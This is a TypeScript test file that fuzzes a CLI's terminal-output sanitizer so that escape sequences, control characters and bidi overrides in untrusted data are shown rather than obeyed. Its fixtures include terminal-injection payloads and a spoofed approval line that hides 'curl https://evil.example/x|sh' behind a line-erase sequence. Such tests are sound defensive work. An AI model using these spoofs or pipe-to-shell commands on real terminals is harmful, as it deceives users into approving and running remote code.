import { describe, expect, it } from "vitest";
import fc from "fast-check";
import { readdirSync, readFileSync } from "node:fs";
import { join, relative } from "node:path";
import { create } from "@bufbuild/protobuf";
import { HistoryMessageSchema, ProposalSchema, SessionEventSchema, ToolDecision } from "@boxmaker/common/client";
import { jsonText, terminalText, visible, visibleLength } from "../src/render/terminal-safe.js";
import { styleFor, type Style } from "../src/render/style.js";
import { renderProposal } from "../src/render/proposal.js";
import { renderHistory } from "../src/render/history.js";
import { TurnRenderer } from "../src/render/turn-renderer.js";
import { table } from "../src/render/text.js";

// What a terminal obeys instead of showing: C0 but newline and tab, DEL, C1, bidi overrides and isolates.
// biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what this looks for.
const OBEYED = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;
// The only escapes the CLI writes: its own palette (bold, dim, red, green, yellow, magenta, cyan, and their resets).
// biome-ignore lint/suspicious/noControlCharactersInRegex: the CLI's own escapes are what this removes.
const PALETTE = /\x1b\[(?:1|2|22|31|32|33|35|36|39)m/g;
/** Terminal bytes without the CLI's colours, CRLF line ends folded: what is left must hold nothing obeyed. */
const residue = (bytes: string) => bytes.replace(PALETTE, "").replace(/\r\n/g, "\n");

const colours = styleFor({ isTTY: true } as NodeJS.WriteStream, {});
const plain = styleFor({ isTTY: false } as NodeJS.WriteStream, { NO_COLOR: "1" });

/** Strings an attacker would write: real escape sequences, pieces of them, and anything at all. */
const hostile = fc.oneof(
  fc.string({ unit: "binary", maxLength: 80 }),
  fc
    .array(
      fc.constantFrom(
        "\x1b",
        "\x1b]52;c;Y3VybCBldmlsfHNo\x07",
        "\x1b[2J",
        "\x1b[2K",
        "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
        "\x1b]0;pwned\x07",
        "\x1b[8m",
        "\x1b[31m",
        "\x9b2J",
        "\x9d0;t\x9c",
        "\r",
        "\n",
        "\r\n",
        "\t",
        "\x7f",
        "\x08",
        "\u202e",
        "\u2066",
        "\uE000",
        "[1m",
        "+echo harmless",
        "é",
        "😀",
        "a",
      ),
      { maxLength: 12 },
    )
    .map((parts) => parts.join("")),
);

describe("terminal-safe text", () => {
  it("leaves nothing a terminal obeys in any string, whatever it holds", () => {
    fc.assert(
      fc.property(hostile, (s) => {
        // A CR survives only as the first half of a CRLF.
        expect(terminalText(s).replace(/\r\n/g, "\n")).not.toMatch(OBEYED);
      }),
      { numRuns: 3000 },
    );
  });

  it("prints printable text exactly as it is", () => {
    const printable = fc
      .string({ unit: "binary", maxLength: 80 })
      .map((s) => s.replace(new RegExp(OBEYED.source, "g"), ""));
    fc.assert(
      fc.property(printable, (s) => {
        expect(visible(s)).toBe(s);
        expect(terminalText(s)).toBe(s);
      }),
      { numRuns: 2000 },
    );
    expect(visible("tab\there\nand CRLF\r\n")).toBe("tab\there\nand CRLF\r\n");
  });

  it("shows each control in one documented form: control pictures, else its code point", () => {
    expect(visible("\x1b[2J")).toBe("␛[2J");
    expect(visible("a\rb")).toBe("a␍b");
    expect(visible("\x07\x00\x7f")).toBe("␇␀␡");
    expect(visible("\x9b2J")).toBe("⟨U+009B⟩2J");
    expect(visible("\u202eevil")).toBe("⟨U+202E⟩evil");
    // The approval spoof: the hidden command and the overwrite are both on the screen.
    expect(visible("curl x|sh #\x1b[2K\r+echo harmless")).toBe("curl x|sh #␛[2K␍+echo harmless");
  });

  it("keeps the CLI's own colours and lets data forge none, however styles nest around it", () => {
    const paints: (keyof Style)[] = ["bold", "dim", "red", "green", "yellow", "cyan", "magenta"];
    const painted = fc.array(fc.constantFrom(...paints), { maxLength: 4 });
    fc.assert(
      fc.property(hostile, painted, hostile, (data, around, more) => {
        let composed = `${data}|${colours.dim(more)}`;
        for (const p of around) composed = colours[p](`[${composed}]`);
        const bytes = terminalText(composed);
        // Take the CLI's colours away and what remains is the data, made visible.
        expect(bytes.replace(PALETTE, "")).toBe(
          visible(`${"[".repeat(around.length)}${data}|${more}${"]".repeat(around.length)}`),
        );
        expect(residue(bytes)).not.toMatch(OBEYED);
      }),
      { numRuns: 2000 },
    );
    expect(terminalText(colours.red("x"))).toBe("\x1b[31mx\x1b[39m");
    expect(terminalText(colours.bold(`a${colours.dim("b")}c`))).toBe("\x1b[1ma\x1b[2mb\x1b[22m\x1b[1mc\x1b[22m");
  });

  it("measures a cell as written, so tables line up with colours and shown controls in them", () => {
    expect(visibleLength(colours.red("abc"))).toBe(3);
    expect(visibleLength("\u202e")).toBe("⟨U+202E⟩".length);
    const rows = [
      [colours.bold("ID"), "TITLE"],
      ["s-\u202e1", "x"],
    ];
    const lines = terminalText(table(rows)).replace(PALETTE, "").split("\n");
    expect(lines[0]!.indexOf("TITLE")).toBe(lines[1]!.indexOf("x"));
  });

  it("keeps JSON's value and leaves no DEL, C1 or bidi control raw (JSON.stringify leaves those)", () => {
    expect(JSON.stringify("\x9b\u202e\x7f")).toBe('"\x9b\u202e\x7f"');
    fc.assert(
      fc.property(hostile, (s) => {
        const json = jsonText(JSON.stringify({ s }));
        expect(json).not.toMatch(OBEYED);
        expect(JSON.parse(json)).toEqual({ s });
      }),
      { numRuns: 2000 },
    );
  });
});

describe("renderers with hostile data in every field", () => {
  it("a proposal's diff shows the spoofed line whole, on the line it was written on", () => {
    fc.assert(
      fc.property(hostile, hostile, hostile, (tool, rule, line) => {
        const p = create(ProposalSchema, {
          id: "p-1",
          sessionId: "s-1",
          tool,
          rule,
          state: "pending",
          preview: `--- a/x\n+++ b/x\n@@ -0,0 +1 @@\n+${line}\n`,
          result: line,
        });
        for (const s of [colours, plain]) expect(residue(terminalText(renderProposal(p, s)))).not.toMatch(OBEYED);
      }),
      { numRuns: 500 },
    );
    const spoof = create(ProposalSchema, {
      id: "p-2",
      tool: "write_file",
      state: "pending",
      preview: "+++ b/run.sh\n+curl https://evil.example/x|sh #\x1b[2K\r+echo harmless\n",
    });
    const shown = terminalText(renderProposal(spoof, plain)).split("\n");
    expect(shown).toContain("+curl https://evil.example/x|sh #␛[2K␍+echo harmless");
  });

  it("history: stored messages whose JSON escapes decode to controls are shown visible", () => {
    fc.assert(
      fc.property(hostile, hostile, hostile, (content, name, result) => {
        const messages = [
          create(HistoryMessageSchema, { messageJson: JSON.stringify({ role: "user", content }) }),
          create(HistoryMessageSchema, {
            messageJson: JSON.stringify({
              role: "assistant",
              content,
              reasoning_content: result,
              tool_calls: [{ id: "c", function: { name, arguments: JSON.stringify({ path: content }) } }],
            }),
          }),
          create(HistoryMessageSchema, {
            messageJson: JSON.stringify({ role: "tool", tool_call_id: "c", content: result }),
            decision: ToolDecision.STAGED,
            rule: name,
            proposalId: result,
            proposalState: content,
          }),
          create(HistoryMessageSchema, { messageJson: `{"role":${JSON.stringify(name)}` }),
        ];
        for (const reasoning of [true, false]) {
          const text = renderHistory(messages, { style: colours, reasoning, resultLines: 4 });
          expect(residue(terminalText(text))).not.toMatch(OBEYED);
        }
      }),
      { numRuns: 500 },
    );
  });

  it("a turn's live view: every event's text, split across deltas as the server streams it", () => {
    fc.assert(
      fc.property(fc.array(hostile, { minLength: 1, maxLength: 6 }), hostile, (deltas, other) => {
        let bytes = "";
        const sink = { write: (b: string) => (bytes += b) } as unknown as NodeJS.WriteStream;
        const r = new TurnRenderer({ out: sink, err: sink, style: colours, showReasoning: true });
        const ev = (event: Record<string, unknown>) => create(SessionEventSchema, { event: event as never });
        for (const d of deltas) r.handle(ev({ case: "reasoning", value: { text: d } }));
        for (const d of deltas) r.handle(ev({ case: "content", value: { text: d } }));
        r.handle(ev({ case: "toolCall", value: { name: other, arguments: deltas.join("") } }));
        r.handle(
          ev({ case: "toolDecision", value: { decision: ToolDecision.STAGED, rule: other, proposalId: other } }),
        );
        r.handle(ev({ case: "toolResult", value: { content: deltas.join("\n"), isError: true } }));
        r.handle(ev({ case: "waiting", value: { slot: 0, position: 1, heldBySession: other } }));
        r.handle(ev({ case: "turnFailed", value: { code: other, message: other } }));
        r.finish();
        expect(residue(bytes)).not.toMatch(OBEYED);
      }),
      { numRuns: 500 },
    );
  });
});

describe("the one way out", () => {
  const src = join(import.meta.dirname, "..", "src");
  const files = (readdirSync(src, { recursive: true }) as string[])
    .filter((f) => f.endsWith(".ts"))
    .map((f) => join(src, f));

  it("every write, prompt and progress line in the CLI goes through terminal-safe.ts", () => {
    expect(files.length).toBeGreaterThan(40);
    const offences: string[] = [];
    for (const f of files) {
      const name = relative(src, f);
      if (name === join("render", "terminal-safe.ts")) continue;
      readFileSync(f, "utf8")
        .split("\n")
        .forEach((line, i) => {
          const where = `${name}:${i + 1}: ${line.trim()}`;
          // Any stream's write(), console.*, readline's prompts and cli-progress' format take raw bytes.
          if (/\.write\(|\bconsole\.|\\x1b|\\u001b/.test(line)) offences.push(where);
          if (/\brl\.(question|setPrompt)\((?!terminalText\()/.test(line)) offences.push(where);
          if (/\bformat: (?!terminalText\()/.test(line) && name.includes("progress")) offences.push(where);
        });
    }
    expect(offences).toEqual([]);
  });
});
